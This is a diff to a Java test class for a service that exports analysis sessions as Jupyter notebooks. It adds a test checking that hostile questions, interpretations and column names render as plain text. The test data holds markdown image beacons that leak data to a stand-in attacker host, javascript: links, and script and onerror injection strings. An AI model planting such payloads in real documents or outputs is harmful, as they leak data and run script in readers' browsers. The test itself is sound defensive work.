@@ -71,7 +71,11 @@ class InteractionExportsTest {
     }
 
     private JsonNode ask(String session, String question, String code) {
-        stub.respond(r -> r.streaming() ? StubResponse.content("Here it is.") : StubResponse.code(code));
+        return ask(session, question, code, "Here it is.");
+    }
+
+    private JsonNode ask(String session, String question, String code, String interpretation) {
+        stub.respond(r -> r.streaming() ? StubResponse.content(interpretation) : StubResponse.code(code));
         JsonNode done = SseEvents.parse(given().contentType("application/json").accept("text/event-stream")
                 .body(Map.of("question", question)).post("/api/session/" + session + "/analyze").then()
                 .statusCode(200).extract().asString()).done();
@@ -150,6 +154,61 @@ class InteractionExportsTest {
         assertTrue(process.waitFor(180, TimeUnit.SECONDS), "the notebook ran within 3 minutes");
         assertEquals(0, process.exitValue(), new String(out, StandardCharsets.UTF_8) + Files.readString(err));
         return JSON.readTree(out);
+    }
+
+    /** Hostile questions, interpretations and column names: the markdown cells render as text, the notebook runs. */
+    @Test
+    void hostileTextInTheNotebookStaysText() throws Exception {
+        String csv = "\"![c](https://attacker.example/col.png)\",\"<b>x</b>\"\nNorth,1\nSouth,2\n";
+        String session = Uploads.sessionOf("hostile.csv", csv);
+        List<String[]> asked = List.of(
+                new String[] { "Count rows ![x](https://attacker.example/leak?d=q)\r[a](javascript:alert(1))?",
+                        "See ![x](https://attacker.example/leak?d=secret) and [click](javascript:alert(x))." },
+                new String[] { "<img src=x onerror=alert(1)> <https://attacker.example/auto>\u2028# heading",
+                        "Raw <script>alert(x)</script>\r\n[ref][r]\n\n[r]: https://attacker.example/ref\u2029"
+                                + "![y][r] <https://attacker.example/a> www.attacker.example user@attacker.example" },
+                new String[] { "| a | b |\n|---|---|\u0085- item\r> quote",
+                        "&amp;lt;script&gt; javascript: *em* `code` <!-- c --> \\![x](//attacker.example/x.png)" });
+        for (String[] qa : asked) {
+            ask(session, qa[0], "result = len(df)", qa[1]);
+        }
+        Response notebook = given().get("/api/session/" + session + "/notebook");
+        notebook.then().statusCode(200);
+        JsonNode nb = JSON.readTree(notebook.asByteArray());
+        List<String> markdown = new ArrayList<>();
+        for (JsonNode cell : nb.get("cells")) {
+            if (cell.get("cell_type").asText().equals("markdown")) {
+                String source = String.join("", JSON.convertValue(cell.get("source"), List.class));
+                assertTrue(!source.contains("\r") && !source.contains("\u2028") && !source.contains("\u2029")
+                        && !source.contains("\u0085"), "line breaks are normalised: " + source);
+                markdown.add(source);
+            }
+        }
+        assertEquals(1 + asked.size(), markdown.size());
+        JsonNode rendered = MarkdownTextTest.render(markdown);
+        for (int i = 0; i < markdown.size(); i++) {
+            for (String renderer : List.of("markdown_it", "mistune")) {
+                String html = rendered.get(i).get(renderer).asText();
+                if (i == 0) { // the introduction: the service's own list and code spans, no link or image
+                    assertTrue(!html.contains("<a ") && !html.contains("<img") && !html.contains("attacker"), html);
+                } else {
+                    MarkdownTextTest.assertTextOnly(html, renderer);
+                }
+            }
+        }
+        for (int i = 0; i < asked.size(); i++) {
+            String shown = MarkdownTextTest.words(MarkdownTextTest.textOf(rendered.get(i + 1).get("mistune").asText()));
+            assertTrue(shown.contains(MarkdownTextTest.words(asked.get(i)[0].replaceAll("[\r\n\u0085\u2028\u2029]+", " "))),
+                    "the question shows as asked: " + shown);
+            assertTrue(shown.contains(MarkdownTextTest.words(asked.get(i)[1])), "the interpretation as written: " + shown);
+        }
+        // still a valid notebook that runs (nbformat.validate, then nbclient on an ipykernel)
+        Path dir = Files.createTempDirectory("notebook-");
+        Files.write(dir.resolve("session.ipynb"), notebook.asByteArray());
+        Files.write(dir.resolve("hostile.csv"), given().get("/api/session/" + session + "/export?dataset=hostile&format=csv")
+                .then().statusCode(200).extract().asByteArray());
+        JsonNode run = runNotebook(dir.resolve("session.ipynb"));
+        assertEquals(List.of(2, 2, 2), JSON.convertValue(run.get("results"), List.class));
     }
 
     @Test
